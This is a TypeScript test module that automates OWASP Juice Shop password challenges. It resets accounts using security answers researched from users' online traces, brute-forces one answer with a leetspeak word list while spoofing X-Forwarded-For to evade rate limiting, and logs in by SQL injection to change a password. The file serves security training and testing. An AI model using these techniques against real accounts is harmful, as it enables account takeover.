import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { expectStatus, postLogin, SEEDED_PASSWORDS } from '../../testing/attack-steps'

/**
 * The new password a reset sets: a seeded user gets their own password back, so later attacks that log them in
 * keep working; anyone else gets this one.
 */
export const NEW_PASSWORD = 'pwned-it'
const passwordAfterReset = (email: string): string => SEEDED_PASSWORDS[email as keyof typeof SEEDED_PASSWORDS] ?? NEW_PASSWORD

/** The forgotten-password form: asks for the security question, then answers it. */
export async function resetPassword(target: AttackTarget, email: string, answer: string, headers: Record<string, string> = {}) {
  const password = passwordAfterReset(email)
  return request(target).post('/rest/user/reset-password').set(headers).send({ email, answer, new: password, repeat: password })
}

/** Security answers found by research (social media, photos' metadata, family trees), by challenge. */
export const RESEARCHED_ANSWERS = {
  resetPasswordJimChallenge: { email: 'jim@juice-sh.op', answer: 'Samuel' },
  resetPasswordBenderChallenge: { email: 'bender@juice-sh.op', answer: "Stop'n'Drop" },
  resetPasswordBjoernChallenge: { email: 'bjoern@juice-sh.op', answer: 'West-2082' },
  resetPasswordBjoernOwaspChallenge: { email: 'bjoern@owasp.org', answer: 'Zaya' },
  resetPasswordUvoginChallenge: { email: 'uvogin@juice-sh.op', answer: 'Silence of the Lambs' },
  geoStalkingMetaChallenge: { email: 'john@juice-sh.op', answer: 'Daniel Boone National Forest' },
  geoStalkingVisualChallenge: { email: 'emma@juice-sh.op', answer: 'ITsec' },
} as const

const resetWithResearchedAnswer = (key: keyof typeof RESEARCHED_ANSWERS) => async (target: AttackTarget) => {
  const { email, answer } = RESEARCHED_ANSWERS[key]
  expectStatus(await request(target).get('/rest/user/security-question').query({ email }), 200)
  return expectStatus(await resetPassword(target, email, answer), 200)
}

export const MORTY = 'morty@juice-sh.op'
const LEET: Record<string, string[]> = { a: ['4'], e: ['3'], i: ['1'], l: ['1'], o: ['0'], s: ['5'], t: ['7'] }

/** Every spelling of `word` with each letter in leetspeak, upper or lower case (the attacker's word list). */
export function leetVariants(word: string): string[] {
  return [...word.toLowerCase()].reduce<string[]>(
    (prefixes, letter) => prefixes.flatMap((prefix) => [...(LEET[letter] ?? []), letter.toUpperCase(), letter].map((choice) => prefix + choice)),
    [''],
  )
}

/** Morty's pet names from his social media, spelt every way; the right one comes after more than 100 tries. */
export const MORTY_WORD_LIST = [...leetVariants('Snuffles').slice(0, 150), ...leetVariants('Snowball')]

/** A different client address for every attempt, so the per-address rate limit never trips. */
export const forwardedFor = (attempt: number) => `10.${(attempt >> 16) & 255}.${(attempt >> 8) & 255}.${attempt & 255}`

/** Brute-forces Morty's answer; resolves with the successful reset and the number of attempts. */
export async function bruteForceMorty(target: AttackTarget) {
  for (const [index, answer] of MORTY_WORD_LIST.entries()) {
    const response = await resetPassword(target, MORTY, answer, { 'X-Forwarded-For': forwardedFor(index + 1) })
    if (response.status === 200) return { response, attempts: index + 1 }
    expectStatus(response, 401)
  }
  throw new Error(`none of ${MORTY_WORD_LIST.length} answers reset Morty's password`)
}

export const BENDERS_NEW_PASSWORD = 'slurmCl4ssic'
const changePassword = (target: AttackTarget, bearer: string, query: Record<string, string>) =>
  request(target).get('/rest/user/change-password').query(query).set('Authorization', bearer)

export const usersPasswordAttacks = {
  // logged in by injection, the change needs no current password; Bender gets his own one back afterwards
  changePasswordBenderChallenge: async (target) => {
    const login = expectStatus(await postLogin(target, "bender@juice-sh.op'--", 'x'), 200)
    const bearer = `Bearer ${login.body.authentication.token}`
    const changed = expectStatus(await changePassword(target, bearer, { new: BENDERS_NEW_PASSWORD, repeat: BENDERS_NEW_PASSWORD }), 200)
    const original = SEEDED_PASSWORDS['bender@juice-sh.op']
    expectStatus(await changePassword(target, bearer, { new: original, repeat: original }), 200)
    return changed
  },
  resetPasswordJimChallenge: resetWithResearchedAnswer('resetPasswordJimChallenge'),
  resetPasswordBenderChallenge: resetWithResearchedAnswer('resetPasswordBenderChallenge'),
  resetPasswordBjoernChallenge: resetWithResearchedAnswer('resetPasswordBjoernChallenge'),
  resetPasswordBjoernOwaspChallenge: resetWithResearchedAnswer('resetPasswordBjoernOwaspChallenge'),
  resetPasswordUvoginChallenge: resetWithResearchedAnswer('resetPasswordUvoginChallenge'),
  geoStalkingMetaChallenge: resetWithResearchedAnswer('geoStalkingMetaChallenge'),
  geoStalkingVisualChallenge: resetWithResearchedAnswer('geoStalkingVisualChallenge'),
  resetPasswordMortyChallenge: bruteForceMorty,
} satisfies Attacks
